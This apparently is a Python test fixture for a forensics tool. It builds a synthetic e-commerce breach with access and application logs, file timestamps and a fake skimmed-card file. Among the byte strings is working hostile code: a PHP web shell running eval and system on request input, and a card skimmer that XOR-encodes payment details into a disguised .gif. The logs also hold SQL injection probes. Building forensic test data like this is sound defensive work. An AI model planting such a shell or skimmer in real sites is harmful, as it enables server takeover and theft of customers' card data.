"""A small named incident built by hand (not the sample): shop at /shop-admin/, attacker
203.0.113.50 (SQLi + login), helper 203.0.113.60 (reuses the session), shell user 203.0.113.70,
vendor 198.51.100.30 (admin before the attack), staff 198.51.100.10 (internal)."""

from __future__ import annotations

import base64

from forensics import cards

from . import frames

ADMIN = "/shop-admin/"
ATT, HELPER, SHELL, VENDOR, STAFF, CUSTOMER = "203.0.113.50", "203.0.113.60", "203.0.113.70", "198.51.100.30", "198.51.100.10", "192.0.2.8"

ACCESS = frames.access(
    [
        {"ts": "2018-05-01 01:00:00", "client_ip": VENDOR, "method": "POST", "target": ADMIN + "index.php", "status": 302},
        {"ts": "2018-05-01 01:00:05", "client_ip": VENDOR, "method": "POST", "target": ADMIN + "order/index.php"},
        {"ts": "2018-05-02 02:00:00", "client_ip": ATT, "target": "/products/detail.php?product_id=1%27+AND+1%3D1+--+"},
        {"ts": "2018-05-02 02:00:01", "client_ip": ATT, "target": "/products/detail.php?product_id=-1+UNION+SELECT+login_id,password+FROM+dtb_member"},
        {"ts": "2018-05-02 02:00:02", "client_ip": CUSTOMER, "target": "/products/list.php?name=O%27Reilly"},
        {"ts": "2018-05-03 03:00:00", "client_ip": ATT, "method": "POST", "target": ADMIN + "index.php", "status": 200},
        {"ts": "2018-05-03 03:00:10", "client_ip": ATT, "method": "POST", "target": ADMIN + "index.php", "status": 302},
        {"ts": "2018-05-03 03:01:00", "client_ip": ATT, "method": "POST", "target": ADMIN + "customer/index.php"},
        {"ts": "2018-05-03 03:02:00", "client_ip": ATT, "method": "POST", "target": ADMIN + "contents/file_manager.php", "status": 302},
        {"ts": "2018-05-03 03:03:00", "client_ip": SHELL, "method": "POST", "target": "/user_data/x1.php"},
        {"ts": "2018-05-03 03:04:00", "client_ip": SHELL, "method": "GET", "target": "/user_data/x1.php?c=id"},
        {"ts": "2018-05-04 04:00:00", "client_ip": HELPER, "method": "POST", "target": ADMIN + "order/edit.php"},
        {"ts": "2018-05-04 04:00:30", "client_ip": HELPER, "method": "GET", "target": ADMIN + "order/index.php?mode=csv"},
        {"ts": "2018-05-04 05:00:00", "client_ip": STAFF, "method": "POST", "target": ADMIN + "index.php", "status": 302},
        {"ts": "2018-05-01 06:00:00", "client_ip": CUSTOMER, "method": "POST", "target": "/shopping/load_payment_module.php", "status": 302},
        {"ts": "2018-05-02 06:00:00", "client_ip": CUSTOMER, "method": "POST", "target": "/shopping/load_payment_module.php", "status": 302},
        {"ts": "2018-05-05 06:00:00", "client_ip": CUSTOMER, "method": "POST", "target": "/shopping/load_payment_module.php", "status": 200},
        {"ts": "2018-05-05 07:00:00", "client_ip": CUSTOMER, "method": "POST", "target": "/shopping/load_payment_module.php", "status": 200},
        {"ts": "2018-05-05 08:00:00", "client_ip": CUSTOMER, "method": "POST", "target": "/shopping/load_payment_module.php", "status": 200},
        {"ts": "2018-05-02 03:00:00", "client_ip": ATT, "target": "/data/", "status": 403},
        {"ts": "2018-05-06 00:00:00", "client_ip": ATT, "target": "/", "status": 403},
        {"ts": "2018-05-06 00:00:09", "client_ip": ATT, "target": "/products/detail.php?product_id=1+AND+SLEEP(5)", "status": 403},
    ]
)

APP = frames.app_log(
    [
        {"ts": "2018-05-01 01:00:00", "script": ADMIN + "index.php", "event": "login", "ip": VENDOR, "login_id": "vendor", "sid": "s-vendor"},
        {"ts": "2018-05-01 01:00:05", "script": ADMIN + "order/index.php", "event": "access", "ip": VENDOR, "login_id": "vendor", "sid": "s-vendor"},
        {"ts": "2018-05-03 03:00:00", "script": ADMIN + "index.php", "event": "login_failed", "ip": ATT, "login_id": "admin"},
        {"ts": "2018-05-03 03:00:10", "script": ADMIN + "index.php", "event": "login", "ip": ATT, "login_id": "admin", "sid": "s-att"},
        {"ts": "2018-05-03 03:01:00", "script": ADMIN + "customer/index.php", "event": "access", "ip": ATT, "login_id": "admin", "sid": "s-att"},
        {"ts": "2018-05-03 03:02:00", "script": ADMIN + "contents/file_manager.php", "event": "access", "ip": ATT, "login_id": "admin", "sid": "s-att"},
        {"ts": "2018-05-03 03:02:00", "script": ADMIN + "contents/file_manager.php", "event": "upload", "ip": ATT,
         "upload_name": "x1.php", "upload_dest": "/srv/shop/html/user_data/x1.php"},
        {"ts": "2018-05-04 04:00:00", "script": ADMIN + "order/edit.php", "event": "access", "ip": HELPER, "login_id": "admin", "sid": "s-att"},
        {"ts": "2018-05-04 04:00:30", "script": ADMIN + "order/index.php", "event": "access", "ip": HELPER, "login_id": "admin", "sid": "s-att"},
        {"ts": "2018-05-04 05:00:00", "script": ADMIN + "index.php", "event": "login", "ip": STAFF, "login_id": "staff", "sid": "s-staff"},
    ]
)

TEMPLATE = "data/Smarty/templates_c/default/%%AB^ABC^ABCDEF01%%load_payment_module.tpl.php"
SKIM = "html/user_data/packages/default/img/spin.gif"

FS = frames.fs_files(
    [
        {"name": "/srv/shop/html/user_data/x1.php", "mtime": "2018-05-03 03:02:00", "ctime": "2018-05-03 03:02:00", "crtime": "2018-05-03 03:02:00"},
        {"name": "/srv/shop/html/user_data/old.php", "mtime": "2017-01-01 00:00:00", "ctime": "2017-01-01 00:00:00", "crtime": "2017-01-01 00:00:00"},
        {"name": "/srv/shop/" + TEMPLATE, "mtime": "2018-05-04 12:14:00", "ctime": "2018-05-04 12:14:00"},
        {"name": "/srv/shop/data/Smarty/templates_c/default/%%CD^CDE^CDEF0123%%top.tpl.php", "mtime": "2018-05-04 13:00:00", "ctime": "2018-05-04 13:00:00"},
        {"name": "/srv/shop/data/class/SC_Query.php", "mtime": "2016-01-01 00:00:00", "ctime": "2016-01-01 00:00:00"},
        {"name": "/srv/shop/" + SKIM, "mtime": "2018-05-05 06:00:00", "ctime": "2018-05-05 06:00:00", "crtime": "2018-05-04 12:30:00"},
    ]
)

SHELL_PHP = b"<?php @eval(base64_decode($_POST['z'])); if(isset($_GET['c'])) system($_GET['c']); ?>"
SKIMMER_PHP = (
    b"<?php /* compiled */ if(!empty($_POST['card_no'])){$d=date('Y-m-d H:i:s').'|'.$_POST['card_no'].'|'.$_POST['card_name1']."
    b".'|'.$_POST['card_expire'].'|'.$_POST['security_code'];$o='';for($i=0;$i<strlen($d);$i++){$o.=chr(ord($d[$i])^0x33);}"
    b"file_put_contents(HTML_REALDIR.'user_data/packages/default/img/spin.gif',base64_encode($o).\"\\n\",FILE_APPEND);} ?>"
    b"<form>...</form>"
)
LEGIT_TPL = b"<?php /* Smarty version 2.6.26 */ echo $this->_tpl_vars['arrForm']['name']; ?>"


def pan(prefix: str) -> str:
    body = (prefix + "000000000000000")[:12] + "123"
    return body + cards.luhn_check_digit(body)


def skim_line(ts: str, number: str, name: str, exp: str, code: str, key: int = 0x33) -> bytes:
    rec = f"{ts}|{number}|{name}|{exp}|{code}".encode()
    return base64.b64encode(bytes(b ^ key for b in rec)) + b"\n"


def skim_bytes() -> bytes:
    return (
        b"GIF89a\x01\x00\x01\x00\x80\x00\x00\n"
        + skim_line("2018-05-05 15:00:00", pan("4"), "TARO YAMADA", "04/21", "123")
        + skim_line("2018-05-05 16:00:00", pan("52"), "HANAKO SATO", "11/20", "456")
    )
